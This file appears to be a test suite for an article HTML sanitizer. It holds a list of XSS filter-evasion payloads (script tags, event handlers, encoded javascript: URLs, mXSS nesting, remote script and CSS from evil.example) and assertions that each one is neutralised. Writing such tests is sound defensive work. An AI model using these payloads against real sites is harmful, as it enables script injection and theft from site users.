import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseHTML } from 'linkedom';
import { sanitizeArticleHtml } from './sanitize.ts';

// Filter-evasion payloads in the spirit of the OWASP XSS cheat sheet, written for these tests.
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=javascript:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="jav&#x0A;ascript:alert(1)">',
  '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
  '<img src=" &#14;  javascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
  '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  '<p style="display:none">hidden</p><p style="color:red;background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<video poster=javascript:alert(1)//></video>',
  '<audio src=x onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<div><!--<img src=x onerror=alert(1)>--></div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<a href="https://ok.example/" id="location">clobber</a>',
  '<p class="x" data-x="1" contenteditable>x</p>',
  '<frameset onload=alert(1)>',
  '<isindex action=javascript:alert(1) type=image>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<img src="https://ok.example/a.png" onload="alert(1)" style="position:absolute">',
];

const SAFE_URL = /^(?:https?:|mailto:|data:image\/(?:png|jpe?g|gif|webp|avif|bmp);base64,|[^:]*$)/i;

function assertSafe(output: string, payload: string): void {
  const { document } = parseHTML(`<!doctype html><html><body>${output}</body></html>`);
  for (const el of document.body.querySelectorAll('*')) {
    const tag = el.localName;
    assert.ok(!/^(?:script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|frame|frameset|textarea|video|audio)$/.test(tag), `tag <${tag}> survived ${payload}`);
    for (const attr of el.attributes) {
      assert.ok(!/^on/i.test(attr.name), `handler ${attr.name} survived ${payload}`);
      assert.notEqual(attr.name, 'style', `style survived ${payload}`);
      if (attr.name === 'href' || attr.name === 'src') assert.match(attr.value.trim(), SAFE_URL, `${attr.name}=${attr.value} survived ${payload}`);
      if (attr.name === 'srcset') assert.doesNotMatch(attr.value, /javascript:|data:/i, `srcset survived ${payload}`);
    }
  }
  assert.doesNotMatch(output, /javascript:|vbscript:|<script|expression\(/i, `dangerous text in markup for ${payload}: ${output}`);
}

describe('sanitizeArticleHtml', () => {
  for (const payload of PAYLOADS) {
    test(`neutralises ${payload.slice(0, 60)}`, () => assertSafe(sanitizeArticleHtml(`<p>before</p>${payload}<p>after</p>`), payload));
  }

  test('keeps reader structure', () => {
    const html = '<h2>Head</h2><p><em>a</em> <strong>b</strong> <a href="https://x.example/">c</a></p><ul><li>one</li></ul><blockquote>q</blockquote><pre class="language-js"><code class="language-js">let a = 1;</code></pre><table><tr><th>h</th></tr><tr><td>d</td></tr></table><figure><img src="https://x.example/a.jpg" srcset="https://x.example/a.jpg 1x, https://x.example/b.jpg 2x" alt="A"><figcaption>Cap</figcaption></figure>';
    const out = sanitizeArticleHtml(html);
    for (const part of ['<h2>Head</h2>', '<em>a</em>', '<li>one</li>', '<blockquote>q</blockquote>', 'class="language-js"', '<th>h</th>', '<figcaption>Cap</figcaption>', 'srcset="https://x.example/a.jpg 1x, https://x.example/b.jpg 2x"']) {
      assert.ok(out.includes(part), `${part} missing from ${out}`);
    }
    assert.match(out, /<a href="https:\/\/x\.example\/" rel="noopener noreferrer">c<\/a>/);
  });

  test('keeps raster data images and drops SVG ones', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    assert.ok(sanitizeArticleHtml(`<img src="${png}" alt="p">`).includes(png));
    assert.doesNotMatch(sanitizeArticleHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="s">'), /<img/);
  });

  test('turns video iframes and tweets into link cards', () => {
    const out = sanitizeArticleHtml('<p>x</p><iframe src="https://www.youtube.com/embed/abcDEF12345" title="Launch day"></iframe><blockquote class="twitter-tweet"><p>Hello world</p><a href="https://twitter.com/a/status/1">date</a></blockquote><iframe src="https://ads.example/frame"></iframe>');
    assert.match(out, /<p class="embed-card"><a href="https:\/\/www\.youtube\.com\/watch\?v=abcDEF12345" rel="noopener noreferrer">Video: Launch day<\/a><\/p>/);
    assert.match(out, /<p class="embed-card"><a href="https:\/\/twitter\.com\/a\/status\/1" rel="noopener noreferrer">Post: Hello world<\/a><\/p>/);
    assert.doesNotMatch(out, /ads\.example|<iframe/);
  });

  test('drops classes other than the allowed ones', () => {
    assert.equal(sanitizeArticleHtml('<p class="embed-card evil">x</p>'), '<p class="embed-card">x</p>');
    assert.equal(sanitizeArticleHtml('<p class="overlay">x</p>'), '<p>x</p>');
  });
});

test('a <picture> keeps its sources as one image, however its attributes are quoted', () => {
  const html = sanitizeArticleHtml(`<p>Text</p><picture><source srcset='https://x.example/a.jpg 140w, https://x.example/b.jpg 500w' type=image/webp><img src=https://x.example/c.jpg alt="A hall"></picture>`);
  assert.equal(html, '<p>Text</p><img src="https://x.example/c.jpg" alt="A hall" srcset="https://x.example/a.jpg 140w, https://x.example/b.jpg 500w" />');
});
